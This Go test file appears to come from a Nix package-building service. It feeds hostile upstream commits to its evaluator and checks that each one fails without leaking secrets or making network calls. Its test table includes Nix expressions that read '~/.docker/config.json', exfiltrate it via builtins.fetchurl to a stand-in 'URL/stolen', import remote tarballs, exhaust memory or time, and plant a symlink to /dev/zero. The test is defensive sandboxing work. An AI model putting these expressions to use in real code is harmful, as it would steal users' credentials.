package cycle_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/nixpkgs-factory/factory/internal/source"
)

// A commit that is after what is not its own fails: it reads nothing, asks
// nobody, and takes no more memory than it may.
func TestHostileCommit(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		file string // of the tree, that is another
		text string // its content, with HOME and URL put in
		link string // or where it leads
		want []string
	}{
		{"reads a file", "default.nix", `args: builtins.readFile "HOME/.docker/config.json"`, "", []string{foreign, "config.json"}},
		{"sends it", "default.nix", `args: builtins.fetchurl ("URL/stolen?" + builtins.readFile "HOME/.docker/config.json")`, "", []string{foreign}},
		{"sends anything", "default.nix", `args: builtins.fetchurl "URL/stolen"`, "", []string{foreign, "URL/stolen"}},
		{"wants another store", "default.nix", `args: import (fetchTarball "URL/stolen.tar.gz")`, "", []string{foreign, "URL/stolen.tar.gz"}},
		{"says what Nix says of its store", "default.nix", `args: throw "operation 'addToStore' is not supported by store 'dummy'"`, "", []string{"not supported by store"}},
		{"takes memory", "default.nix", `args: let f = n: s: if n == 0 then s else f (n - 1) (s + s); in builtins.stringLength (f 33 "x")`, "", []string{"it may have 512 MiB"}},
		{"takes time", "default.nix", `args: let f = n: builtins.foldl' (a: _: if n == 0 then a else f (n - 1)) 0 (builtins.genList (x: x) 10000); in f 4`, "", []string{"not done after 2s"}},
		{"a version that is a device", "lib/minver.nix", "", "/dev/zero", []string{"lib/minver.nix", "escapes"}},
		{"a version of a megabyte", "lib/minver.nix", `"2.3" #` + strings.Repeat("x", 1<<20), "", []string{"lib/minver.nix", "larger than 65536 bytes"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, settings{channels: onlyRelease})
			home := t.TempDir()
			if err := os.Mkdir(filepath.Join(home, ".docker"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(home, ".docker/config.json"), []byte(secretPassword), 0o600); err != nil {
				t.Fatal(err)
			}
			w.config.Evaluation.Memory = 512 << 20
			if tc.name == "takes time" {
				w.config.Evaluation.Timeout = 2e9
			}
			put := strings.NewReplacer("HOME", home, "URL", w.upstream.URL())
			w.serveInstead(t, tc.file, put.Replace(tc.text), tc.link)
			results := w.expect(release + ": failed")
			for i := range tc.want {
				tc.want[i] = put.Replace(tc.want[i])
			}
			contains(t, "error", results[0].Error, tc.want...)
			for _, file := range files(t, w.dir) {
				data, err := os.ReadFile(file)
				if err != nil {
					t.Fatal(err)
				}
				noSecrets(t, file, data)
			}
			if asked := w.asked()["other"]; len(asked) > 0 {
				t.Errorf("an evaluation sent requests: %v", asked)
			}
			w.tidy()
		})
	}
}

// serveInstead makes the head of the release channel a commit with one file
// that is another one.
func (w *world) serveInstead(t testing.TB, file, text, link string) {
	t.Helper()
	commit := w.fixture.Commit("release-doc")
	data, tree := changedNixpkgs(t, w.fixture.ArchiveFile(commit.Rev), file, text, link)
	w.upstream.Handle(func(rw http.ResponseWriter, r *http.Request) bool {
		if !strings.HasPrefix(r.URL.Path, "/codeload/") || !strings.HasSuffix(r.URL.Path, commit.Rev) {
			return false
		}
		rw.Write(data)
		return true
	})
	w.once(func(path string) bool { return strings.HasSuffix(path, "/branches/"+release) }, func(rw http.ResponseWriter, _ *http.Request, answer []byte) {
		rw.Write(bytes.ReplaceAll(answer, []byte(commit.Tree), []byte(tree)))
	})
}

// changedNixpkgs rewrites an archive with another text in one file, or with a
// link in its place, and returns the id of its tree.
func changedNixpkgs(t testing.TB, archive, file, text, link string) (data []byte, tree string) {
	t.Helper()
	f, err := os.Open(archive)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	from, to := tar.NewReader(zr), tar.NewWriter(zw)
	for {
		h, err := from.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(from)
		if err != nil {
			t.Fatal(err)
		}
		if _, name, _ := strings.Cut(h.Name, "/"); name == file {
			content, h.Size = []byte(text), int64(len(text))
			if link != "" {
				h.Typeflag, h.Linkname = tar.TypeSymlink, link
			}
		}
		if err := to.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := to.Write(content); err != nil {
			t.Fatal(err)
		}
	}
	to.Close()
	zw.Close()
	read, err := source.Read(t.Context(), bytes.NewReader(out.Bytes()), source.Options{Name: archive, Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer read.Close()
	return out.Bytes(), read.TreeID.String()
}
